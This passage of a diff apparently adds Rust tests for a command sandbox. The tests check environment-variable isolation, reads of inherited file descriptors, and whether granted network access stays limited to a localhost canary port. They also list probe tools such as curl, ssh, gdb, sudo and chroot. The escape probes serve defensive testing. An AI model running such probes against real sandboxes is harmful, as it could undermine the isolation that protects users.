+        "PATH", "HOME", "LANG", "TMPDIR", "PWD", "SHLVL", "_", "OLDPWD",
+    ];
+    for line in text.lines() {
+        let name = line.split('=').next().unwrap();
+        assert!(allowed.contains(&name), "unexpected variable {name}");
+    }
+    assert!(text.contains("PATH=/usr/local/bin:/usr/bin:/bin"));
+    assert!(!text.contains("/should/not/leak"));
+    for (k, _) in &c.env {
+        assert!(!text.contains(k.as_str()), "{k} visible");
+    }
+});
+
+case!(h50_inherited_descriptors, |c| {
+    // A stray descriptor in the runner (the harness holds many) must not reach the tool.
+    let _stray = std::fs::File::open("/etc/hostname").unwrap();
+    let out = c.run(
+        &p_std(),
+        "echo \"fds $(ls /proc/self/fd | tr '\\n' ' ')\"; n=0; for fd in 3 4 5 6 7 8 9 10 63 255; do (cat <&$fd) >/dev/null 2>&1 && n=$((n+1)); done; echo \"readable $n\"",
+    );
+    expect(&out, "fds", &["0 1 2 3"]);
+    expect(&out, "readable", &["0"]);
+});
+
+case!(i57_approval_does_not_widen_next_run, |c| {
+    let a = TcpCanary::v4();
+    let p = a.port();
+    // An approved escalation = a run under a wider policy (network to the canary port).
+    let granted = Policy::from_toml(
+        &profile_text("network").replace("connect = [53, 80, 443]", &format!("connect = [{p}]")),
+    )
+    .unwrap();
+    let out = c.run(
+        &granted,
+        &py(&format!(
+            "t('granted', lambda: socket.create_connection(('127.0.0.1', {p}), 2))"
+        )),
+    );
+    expect(&out, "granted", &["OK"]);
+    assert!(a.0.accept().is_ok(), "approved connection should arrive");
+    let out = c.run(
+        &p_std(),
+        &format!("curl -m3 -s http://127.0.0.1:{p}/ >/dev/null 2>&1; echo \"curl $?\""),
+    );
+    expect_fail(&out, "curl");
+    a.assert_untouched();
+    // Landlock's port rules: another port stays closed even under the granted policy.
+    let other = TcpCanary::v4();
+    let out = c.run(
+        &granted,
+        &py(&format!(
+            "t('other', lambda: socket.create_connection(('127.0.0.1', {}), 2))",
+            other.port()
+        )),
+    );
+    expect(&out, "other", &["EACCES"]);
+    let out = c.run(
+        &granted,
+        &py("t('bind', lambda: socket.socket().bind(('127.0.0.1', 0)))"),
+    );
+    expect(&out, "bind", &["EACCES"]);
+    other.assert_untouched();
+});
+
+/// The shell probes above only prove something when their tool exists on the host (a missing
+/// tool exits 127, which looks like a denial). Under `OLLIE_TEST_REQUIRE=all` every one must be
+/// installed (`scripts/deps.sh` does that); otherwise the missing ones are named as skips.
+#[test]
+fn probe_tools_are_installed() {
+    const TOOLS: &[&str] = &[
+        "curl",
+        "wget",
+        "ssh",
+        "ping",
+        "strace",
+        "gdb",
+        "tmux",
+        "screen",
+        "dbus-send",
+        "busctl",
+        "systemd-run",
+        "gpg-connect-agent",
+        "flock",
+        "unshare",
+        "ipcmk",
+        "ipcs",
+        "ipcrm",
+        "setsid",
+        "nohup",
+        "git",
+        "python3",
+        "chroot",
+        "sudo",
+        "su",
+    ];
+    let path = std::env::var("PATH").unwrap_or_default();
+    let missing: Vec<&str> = TOOLS
+        .iter()
+        .copied()
+        .filter(|t| {
+            !path
+                .split(':')
+                .chain(["/usr/sbin", "/sbin"])
+                .any(|d| std::path::Path::new(d).join(t).exists())
+        })
+        .collect();
+    if missing.is_empty() {
+        return;
+    }
+    let line = format!(
+        "SKIP probe_tools_are_installed: missing {}",
+        missing.join(" ")
+    );
+    if std::env::var("OLLIE_TEST_REQUIRE").as_deref() == Ok("all") {
+        panic!("{line} (OLLIE_TEST_REQUIRE=all; run scripts/deps.sh)");
+    }
+    skip(&line);
+}
